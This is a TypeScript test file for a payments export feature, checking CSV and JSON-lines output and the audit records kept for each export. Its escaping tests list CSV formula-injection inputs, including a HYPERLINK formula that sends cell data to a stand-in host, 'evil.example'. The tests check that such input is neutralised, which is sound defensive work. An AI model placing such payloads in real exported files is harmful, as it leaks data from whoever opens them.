/** The text of exports, and what the audit log has of them. */
import { expect, test } from 'vitest'
import { manualClock } from '../../test/support/manual-clock.js'
import { openStore } from '../../test/support/store.js'
import { parseMasterKey } from '../secrets/keys.js'
import { createAudited, createAuditQueries } from './audit-log.js'
import { createExportRows, createListing, type ExportFormat, toDeliveryRow } from './export.js'

const address = `0x${'a1'.repeat(20)}`
const payment = (memo: string) => ({
  ...{ integrationAddress: address, chainId: '137', txHash: '0x2', version: 1, state: null, memo, recipient: null },
  ...{ invoice: { amount: '1200.10', currency: 'EUR', settlementAmount: null }, sender: '0x5', receiver: '0x6' },
  ...{ blockTimestamp: '2026-01-02T03:04:05.000Z', source: { chainId: '1', txHash: '0x3' } },
  tokenIn: { address: '0x7', symbol: null, amount: '0' },
  tokenOut: { address: '0x8', symbol: 'USDC', amountGross: '0.000000000000000001', amountNet: '9007199254740993.5' },
})

function setup(pages: readonly (readonly object[])[], filter = {}) {
  const [store, clock, keys] = [openStore(), manualClock(), parseMasterKey('0123456789abcdef'.repeat(4))]
  const audited = createAudited({ transaction: (work) => store.transaction(work), keys, clock, actor: 'operator:ann' })
  let pagesRead = 0
  const list = createListing('payments', filter, async (after: number | undefined = 0) => {
    pagesRead += 1
    const rows = pages[after]
    if (rows === undefined) throw new Error('The database is gone.')
    return { rows, next: after + 1 < pages.length ? after + 1 : null }
  })
  const open = (format: ExportFormat, mayContinue = async () => true) =>
    createExportRows(audited)(list, { format, mayContinue })
  return {
    open,
    async text(format: ExportFormat) {
      let text = ''
      for await (const part of open(format)) text += part.text
      return text
    },
    /** What both records have. */
    async recorded() {
      expect(await createAuditQueries({ audit: store.audit, keys }).verify()).toMatchObject({ brokenAt: null })
      const [started, ended, ...others] = await store.audit.list({ limit: 9 })
      const { rows, end, ...details } = ended?.details ?? {}
      expect([started?.action, ended?.action, others]).toEqual(['export.started', 'export.ended', []])
      expect(details).toEqual(started?.details)
      return { actor: ended?.actor, subject: ended?.subject, ...details, rows, end, pagesRead }
    },
  }
}

test('CSV has the names of the fields once, exact amounts, and empty cells for null', async () => {
  const head =
    'blockTimestamp,chainId,txHash,version,state,integrationAddress,sender,receiver,memo,invoice.amount,invoice.currency,invoice.settlementAmount,invoice.settlementCurrency,tokenOut.amountGross,tokenOut.amountNet,tokenOut.symbol,tokenOut.address,tokenIn.amount,tokenIn.symbol,tokenIn.address,source.chainId,source.txHash,recipient.title,recipient.subtitle'
  const row = (memo: string) =>
    `2026-01-02T03:04:05.000Z,137,0x2,1,,${address},0x5,0x6,${memo},1200.10,EUR,,,0.000000000000000001,9007199254740993.5,USDC,0x8,0,,0x7,1,0x3,,`
  expect(await setup([[payment('a')], [], [payment('b')]]).text('csv')).toBe(
    [head, row('a'), row('b'), ''].join('\r\n'),
  )
})

test.each([
  ...['=1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'].map((memo) => [memo, `"'${memo}"`]),
  ['=HYPERLINK("//evil.example?"&A1,"x")', `"'=HYPERLINK(""//evil.example?""&A1,""x"")"`],
  ['a,b', '"a,b"'],
  ['two\r\nlines\n', '"two\r\nlines\n"'],
  ['"=1', '"""=1"'],
  [' a=1 \u{1f9c0}', ' a=1 \u{1f9c0}'],
])('the cell of %j is %j, and JSON lines have it unchanged', async (memo = '', cell = '') => {
  expect(await setup([[payment(memo)]]).text('csv')).toContain(`,0x5,0x6,${cell},1200.10,`)
  const [line = '', ...others] = (await setup([[payment(memo)]]).text('jsonl')).split('\n')
  expect([JSON.parse(line), others]).toEqual([payment(memo), ['']])
})

test('a delivery has its last attempt, and no answer of a receiver', () => {
  const attempt = { startedAt: 1_000, latencyMs: 25, status: 204, reason: null, excerpt: 'secret', replay: false }
  const delivery = { deliveryId: '7', integrationAddress: address, txHash: '0x2', version: 3 }
  const all = {
    ...delivery,
    createdAt: 0,
    chainId: 1,
    status: 'delivered',
    nextAttemptAt: 2_000,
    attempts: [attempt],
  } as const
  const lastAttempt = { startedAt: '1970-01-01T00:00:01.000Z', status: 204, reason: null, latencyMs: 25 }
  const times = { createdAt: '1970-01-01T00:00:00.000Z', nextAttemptAt: '1970-01-01T00:00:02.000Z' }
  const row = { ...delivery, chainId: '1', status: 'delivered', ...times }
  expect(toDeliveryRow(all)).toEqual({ ...row, attempts: 1, lastAttempt })
  expect(toDeliveryRow({ ...all, attempts: [] })).toEqual({ ...row, attempts: 0, lastAttempt: null })
})

test('the audit log has who, which filter, and how many rows', async () => {
  const filter = { integrationAddress: address, state: 'success' }
  const { text, recorded } = setup([[payment('a'), payment('b')], [payment('c')]], { ...filter, since: undefined })
  await text('csv')
  const given = { actor: 'operator:ann', subject: address, ...filter, list: 'payments', format: 'csv' }
  expect(await recorded()).toEqual({ ...given, rows: 3, end: 'complete', pagesRead: 2 })
})

test('an export is recorded before its first row is read, also one that fails', async () => {
  const { open, recorded } = setup([], { chainId: 1 })
  await expect(open('jsonl').next()).rejects.toThrow('The database is gone.')
  expect(await recorded()).toMatchObject({ subject: 'all', chainId: 1, rows: 0, end: 'failed', pagesRead: 1 })
})

test('when the reader goes away nothing more is read, and the rows that left are recorded', async () => {
  const { open, recorded } = setup([[payment('a')], [payment('b')], [payment('c')]])
  for await (const { rows } of open('csv')) if (rows === 2) break
  expect(await recorded()).toMatchObject({ rows: 2, end: 'cut_off', pagesRead: 2 })
})

test('after an export was stopped no further row leaves', async () => {
  const { open, recorded } = setup([[payment('a')], [payment('b')]])
  let asked = 0
  const parts = open('csv', async () => ++asked === 1)
  await parts.next()
  await expect(parts.next()).rejects.toThrow('The export was stopped before its last row.')
  expect(await recorded()).toMatchObject({ rows: 1, end: 'stopped' })
})
